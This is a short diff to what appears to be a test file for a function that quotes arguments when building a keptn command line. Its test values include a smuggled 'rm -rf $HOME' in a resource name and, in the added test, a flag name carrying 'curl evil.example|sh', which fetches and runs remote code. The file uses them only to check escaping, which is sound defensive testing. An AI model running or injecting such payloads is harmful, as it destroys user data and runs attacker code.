@@ -13,4 +13,10 @@ describe('a command line', () => {
       String.raw`keptn delete resource 'a b'\''; rm -rf $HOME' --message='why ` + "`not`'",
     );
   });
+
+  it('takes no name of a flag for more than a name', () => {
+    expect(commandLine('get deliveries', [], { 'x; curl evil.example|sh #': '1' })).toBe(
+      "keptn get deliveries '--x; curl evil.example|sh #'=1",
+    );
+  });
 });
